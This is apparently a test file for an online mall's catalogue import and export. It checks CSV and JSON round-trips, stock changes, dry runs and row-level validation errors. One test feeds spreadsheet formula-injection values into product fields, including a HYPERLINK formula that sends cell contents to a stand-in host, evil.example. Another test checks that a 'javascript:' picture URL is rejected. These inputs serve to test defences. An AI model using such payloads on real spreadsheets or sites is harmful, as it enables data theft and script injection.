import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { goodsDetail } from '@/lib/contract/goods';
import { csvFormat, exportCatalogue } from '@/server/mall/operator/catalogue/export-catalogue';
import { importCatalogue } from '@/server/mall/operator/catalogue/import-catalogue';
import { startMall, type TestMall } from '@/tests/support/mall';

let shop: TestMall;
beforeAll(async () => {
  shop = await startMall();
});
afterAll(() => shop.close());

const folder = mkdtempSync(path.join(tmpdir(), 'catalogue-'));
let files = 0;

const write = (ending: string, text: string): string => {
  files += 1;
  const file = path.join(folder, `${files}.${ending}`);
  writeFileSync(file, text);
  return file;
};

let groupId: string;
beforeAll(async () => {
  groupId = (await shop.mall.db.selectFrom('goods_groups').select('id').executeTakeFirstOrThrow()).id;
});

const row = (changes: Record<string, unknown> = {}) => ({
  goodsId: 'g1',
  groupId,
  supplier: 'tea-house',
  nameZh: '龙井茶',
  nameEn: 'Longjing tea',
  descriptionZh: '第一段',
  descriptionEn: 'One',
  cover: 'tea.webp',
  pictures: 'tea.webp|tea-2.webp',
  tags: 'new|hot',
  specId: 's1',
  specNameZh: '罐装',
  specNameEn: 'Tin',
  points: 100,
  priceFen: 1990,
  marketPriceFen: 9900,
  stock: 5,
  ...changes,
});

const csv = (rows: Record<string, unknown>[]) => write('csv', stringify(rows, { header: true }));
const json = (rows: unknown) => write('json', JSON.stringify(rows));

const exported = async () => {
  const all = [];
  for await (const each of exportCatalogue(shop.mall.db)) all.push(each);
  return all;
};

describe('a good file', () => {
  test.each([
    ['csv', csv],
    ['json', json],
  ])('of kind %s is on sale afterwards', async (kind, make) => {
    const goodsId = `on-sale-${kind}`;
    const file = make([
      row({ goodsId, specId: `${goodsId}-1` }),
      row({ goodsId, specId: `${goodsId}-2`, points: 50, stock: 0 }),
    ]);
    expect(await importCatalogue(shop.mall.deps, file)).toEqual({ rows: 2, issues: [] });
    const { data } = await shop.call(goodsDetail, { goodsId }, { locale: 'en' });
    expect(data).toMatchObject({ title: 'Longjing tea', description: ['One'], tags: ['new', 'hot'] });
    expect(data.specs.map(({ goodsSpecId, points }) => [goodsSpecId, points])).toEqual([
      [`${goodsId}-1`, 100],
      [`${goodsId}-2`, 50],
    ]);
  });

  // R-OPERATOR-02
  test('comes back as it went in, and importing the export changes nothing', async () => {
    const before = await exported();
    expect(before.length).toBeGreaterThan(400);
    const file = write('csv', stringify(before, csvFormat));
    expect(await importCatalogue(shop.mall.deps, file)).toEqual({ rows: before.length, issues: [] });
    expect(await exported()).toEqual(before);
  });

  test('has no cell that a spreadsheet calculates, and comes back with the same texts', async () => {
    const formulas = {
      nameZh: '=HYPERLINK("http://evil.example?"&A1,"x")',
      nameEn: "'=1+1",
      subtitleZh: '+86',
      subtitleEn: '-5',
      optionZh: '@SUM(1)',
      optionEn: "''-1",
      descriptionZh: '＝1+1\n=2',
      specNameZh: "'",
      specNameEn: '"=1+1"',
      supplier: "'plain",
    };
    await importCatalogue(
      shop.mall.deps,
      json([{ ...row({ goodsId: '=formula', specId: '-formula' }), ...formulas }]),
    );
    const before = (await exported()).filter(({ goodsId }) => goodsId === '=formula');
    expect(before).toEqual([
      expect.objectContaining({ goodsId: '=formula', specId: '-formula', ...formulas }),
    ]);
    const text = stringify(before, csvFormat);
    const cells: string[][] = parse(text);
    expect(cells.flat().filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
    expect(cells[1]).toContain('1990');
    await shop.mall.db
      .updateTable('goods')
      .set({ name_zh: '', name_en: '', supplier: '', detail: JSON.stringify({}) })
      .where('id', '=', '=formula')
      .execute();
    expect(await importCatalogue(shop.mall.deps, write('csv', text))).toEqual({ rows: 1, issues: [] });
    expect((await exported()).filter(({ goodsId }) => goodsId === '=formula')).toEqual(before);
  });

  test('changes stock and what was supplied by the same number of pieces', async () => {
    const goodsId = 'restocked';
    await importCatalogue(shop.mall.deps, csv([row({ goodsId, specId: goodsId, stock: 10 })]));
    await shop.mall.db.updateTable('goods_specs').set({ stock: 7 }).where('id', '=', goodsId).execute();
    await importCatalogue(shop.mall.deps, csv([row({ goodsId, specId: goodsId, stock: 20 })]));
    const spec = await shop.mall.db
      .selectFrom('goods_specs')
      .select(['stock', 'supplied'])
      .where('id', '=', goodsId)
      .executeTakeFirstOrThrow();
    expect(spec).toEqual({ stock: 20, supplied: 23 });
  });

  test('is only checked in a dry run', async () => {
    const before = await exported();
    const file = csv([row({ goodsId: 'dry', specId: 'dry' })]);
    expect(await importCatalogue(shop.mall.deps, file, { dryRun: true })).toEqual({ rows: 1, issues: [] });
    expect(await exported()).toEqual(before);
  });
});

describe('a file with a fault', () => {
  test.each<[string, () => Record<string, unknown>[], unknown]>([
    [
      'a missing name',
      () => [row({ nameZh: '' })],
      { row: 2, column: 'nameZh', message: expect.any(String) },
    ],
    [
      'a negative price',
      () => [row({ priceFen: -1 })],
      { row: 2, column: 'priceFen', message: expect.stringContaining('>=0') },
    ],
    [
      'a fraction of points',
      () => [row(), row({ specId: 's2', points: '1.5' })],
      expect.objectContaining({ row: 3 }),
    ],
    ['an unknown tag', () => [row({ tags: 'best' })], expect.objectContaining({ row: 2, column: 'tags.0' })],
    [
      'a script as picture',
      () => [row({ cover: 'javascript:alert(1)' })],
      expect.objectContaining({ column: 'cover' }),
    ],
    ['facts that are no JSON', () => [row({ facts: '{' })], { row: 2, column: 'facts', message: 'not JSON' }],
    [
      'one spec twice',
      () => [row(), row()],
      { row: 3, column: 'specId', message: 's1 stands in row 2 already' },
    ],
    [
      'two names of one goods',
      () => [row(), row({ specId: 's2', nameEn: 'Green tea' })],
      { row: 3, column: 'goodsId', message: 'the fields of goods g1 differ from those in row 2' },
    ],
    [
      'an unknown group',
      () => [row({ groupId: 'none' })],
      { row: 2, column: 'groupId', message: 'there is no group none' },
    ],
  ])('%s is told with its row, and nothing is written', async (_, rows, issue) => {
    const before = await exported();
    const good = row({ goodsId: 'good', specId: 'good' });
    const result = await importCatalogue(shop.mall.deps, csv([...rows(), good]));
    expect(result.issues).toContainEqual(issue);
    expect(await exported()).toEqual(before);
  });

  test('a spec of another goods is refused', async () => {
    await importCatalogue(shop.mall.deps, csv([row({ goodsId: 'owner', specId: 'owned' })]));
    const { issues } = await importCatalogue(
      shop.mall.deps,
      csv([row({ goodsId: 'thief', specId: 'owned' })]),
    );
    expect(issues).toEqual([{ row: 2, column: 'specId', message: 'owned belongs to goods owner' }]);
  });

  test('JSON rows are counted from one', async () => {
    const { issues } = await importCatalogue(
      shop.mall.deps,
      json([row({ goodsId: 'a', specId: 'a' }), null]),
    );
    expect(issues[0]).toMatchObject({ row: 2, column: 'goodsId' });
  });

  test.each([
    ['broken JSON', () => write('json', '[{"goodsId":'), /./],
    ['a ragged CSV', () => write('csv', 'goodsId,groupId\na,b,c\n'), /line 2/],
    ['another kind of file', () => write('xlsx', ''), /a \.csv or a \.json file is needed/],
    ['no file', () => path.join(folder, 'missing.csv'), /ENOENT|no such file/],
  ])('%s is refused', async (_, make, message) => {
    await expect(importCatalogue(shop.mall.deps, make())).rejects.toThrow(message);
  });

  test('after a hundred faults reading stops', async () => {
    const { rows, issues } = await importCatalogue(
      shop.mall.deps,
      csv(Array.from({ length: 5000 }, (_, index) => row({ specId: `x${index}`, supplier: '' }))),
    );
    expect(rows).toBeLessThan(200);
    expect(issues.length).toBeGreaterThanOrEqual(100);
  });
});

test('a quoted line break counts as a line, so that an editor finds the row', async () => {
  const file = csv([
    row({ goodsId: 'q', specId: 'q', descriptionZh: '第一段\n第二段' }),
    row({ goodsId: 'r', specId: 'r', stock: 'many' }),
  ]);
  expect(readFileSync(file, 'utf8')).toContain('"第一段\n第二段"');
  const { issues } = await importCatalogue(shop.mall.deps, file);
  expect(issues).toEqual([{ row: 4, column: 'stock', message: expect.any(String) }]);
});
